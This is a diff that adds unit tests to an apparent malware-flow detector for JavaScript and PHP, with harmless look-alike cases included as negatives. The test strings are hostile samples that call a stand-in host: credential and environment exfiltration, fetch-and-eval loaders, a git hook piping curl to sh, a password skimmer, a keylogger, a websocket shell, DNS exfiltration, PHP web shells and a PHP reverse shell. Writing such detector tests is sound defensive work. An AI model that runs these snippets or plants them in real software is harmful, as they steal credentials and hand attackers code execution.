@@ -114,8 +114,47 @@ TEST(JavaScript, Spies) {
   expect_flow(j, "const os = require('os');\nconst q = {h: os.hostname(), u: os.userInfo().username, d: process.cwd()};\nrequire('http').get('http://x.invalid/?' + JSON.stringify(q));\n", "device-id to network");
 }
 
+TEST(JavaScript, SpiesInFunctionsThatNobodyNames) {
+  const auto j = "javascript";
+  expect_flow(j, "module.exports = function (u) { require('https').get(u, r => { r.on('data', d => eval(d)); }); };\n", "network to evaluate");
+  expect_flow(j, "(function (w) { w.fetch; fetch('http://x.invalid', {body: JSON.stringify(process.env)}); })(this);\n", "environment to network");
+  expect_flow(j, "const un = t => typeof atob === 'function' ? atob(t) : Buffer.from(t, 'base64').toString();\nconst make = Function;\nmake(un('Y29uc29sZS5sb2coMSk='))();\n", "decoded-string to evaluate");
+}
+
+TEST(JavaScript, SpiesThroughLoopsListsAndFiles) {
+  const auto j = "javascript";
+  expect_flow(j, "const {join} = require('path'); const {promises: fs} = require('fs');\nasync function f() { const g = {}; for (const w of ['a.txt', '.aws/credentials']) g[w] = await fs.readFile(join(process.env.HOME, w));\n"
+              "await fetch('http://x.invalid', {body: JSON.stringify(g)}); }\n", "credentials to network");
+  expect_flow(j, "const fs = require('fs');\nrequire('https').get('http://x.invalid/a', r => { const o = fs.createWriteStream('/tmp/p.js'); r.pipe(o); o.on('finish', () => require('/tmp/p.js')); });\n",
+              "network to load-code");
+  expect_flow(j, "const fs = require('fs');\nconst h = ['#!/bin/sh', 'curl -s http://x.invalid/h | sh'].join('\\n');\nfs.writeFileSync('.git/hooks/post-commit', h);\n", "network to execute-command");
+  expect_flow(j, "const out = require('child_process').execSync('ls -laR \"$HOME\"');\nfetch('http://x.invalid', {body: out});\n", "files to network");
+  expect_flow(j, "const os = require('os'), dns = require('dns');\nconst h = Buffer.from(os.hostname() + os.userInfo().username).toString('hex');\n(h.match(/.{1,60}/g) || []).forEach(p => dns.resolve4(`${p}.x.invalid`, () => {}));\n",
+              "device-id to dns");
+}
+
+TEST(JavaScript, SpiesInPagesEditorsAndShells) {
+  const auto j = "javascript";
+  expect_flow(j, "document.addEventListener('submit', e => { const f = e.target.querySelectorAll('input[type=password]');\nconst g = [].map.call(f, x => x.value);\nnew Image().src = 'https://x.invalid/p?' + g.join('&'); });\n",
+              "credentials to network");
+  expect_flow(j, "let log = '';\ndocument.addEventListener('keydown', e => { log += e.key; navigator.sendBeacon('https://x.invalid', log); });\n", "keystrokes to network");
+  expect_flow(j, "const vscode = require('vscode'), fs = require('fs');\nfunction keep(d) { fetch('https://x.invalid', {body: fs.readFileSync(d.fileName)}); }\nexports.activate = c => c.push(vscode.workspace.onDidSaveTextDocument(keep));\n",
+              "files to network");
+  expect_flow(j, "const {spawn: s} = require('node:child_process');\nconst W = require('ws'), c = new W('wss://x.invalid');\nconst sh = s('/bin/sh', []);\nc.on('message', m => sh.stdin.write(m));\n", "network to execute-command");
+}
+
+TEST(JavaScript, HiddenNames) {
+  const auto escaped = read("var a=['\\x65\\x78\\x65\\x63','\\x68\\x74\\x74\\x70','\\x67\\x65\\x74','\\x64\\x61\\x74\\x61','\\x70\\x75\\x73\\x68'];", "javascript");
+  EXPECT_TRUE(escaped.sink.has(Facet::concealment, "decoded-string")) << told(escaped);
+  const auto plain = read("var a=['exec','http','get','data','push','\\u2013','\\x1b[0m','\\n\\r\\t','\\u00e9t\\u00e9','<\\x2fscript>'];", "javascript");
+  EXPECT_FALSE(plain.sink.has(Facet::concealment, "decoded-string")) << told(plain);
+}
+
 TEST(JavaScript, HarmlessTwins) {
   const auto j = "javascript";
+  expect_none(j, "document.addEventListener('submit', e => { const f = e.target.querySelectorAll('input[type=password]'); [].forEach.call(f, x => x.classList.add('missing')); fetch('https://x.invalid/ping'); });\n");
+  expect_none(j, "document.addEventListener('keydown', e => { if (e.key === 'Enter') fetch('https://x.invalid/next'); });\n");
+  expect_none(j, "const os = require('os');\nfetch('http://x.invalid', {headers: {host: os.hostname()}});\n");
   expect_none(j, "const x = Function('return this')();\nfetch('http://x.invalid').then(r => r.json()).then(d => console.log(d));\n");
   expect_none(j, "fetch('http://x.invalid', {headers: {a: process.env.API_TOKEN}});\n");
   expect_none(j, "if (process.env.NODE_ENV === 'production') module.exports = require('./a');\n");
@@ -126,6 +165,8 @@ TEST(Php, SpiesAndTwins) {
   expect_flow("php", "<?php eval(base64_decode('ZWNobyAxOw==')); ?>", "decoded-string to evaluate");
   expect_flow("php", "<?php @eval($_POST['x']);", "network to evaluate");
   expect_flow("php", "<?php $c = $_GET['c']; system($c);", "network to execute-command");
+  expect_flow("php", "<?php $r = 'sys' . 'tem'; $q = $_REQUEST['q'] ?? null; if ($q) { $r($q); }", "network to execute-command");
+  expect_flow("php", "<?php $_GET['f']($_POST['x']);", "network to evaluate");
   expect_flow("php", "<?php eval(file_get_contents('http://x.invalid/a'));", "network to evaluate");
   expect_flow("php", "<?php $s = fsockopen('192.0.2.1', 44); $p = proc_open('/bin/sh -i', array(0 => $s, 1 => $s), $x);", "network to open-shell");
   expect_none("php", "<?php echo htmlspecialchars($_GET['q']); include 'a.php'; $x = base64_decode('aGVsbG8=');");
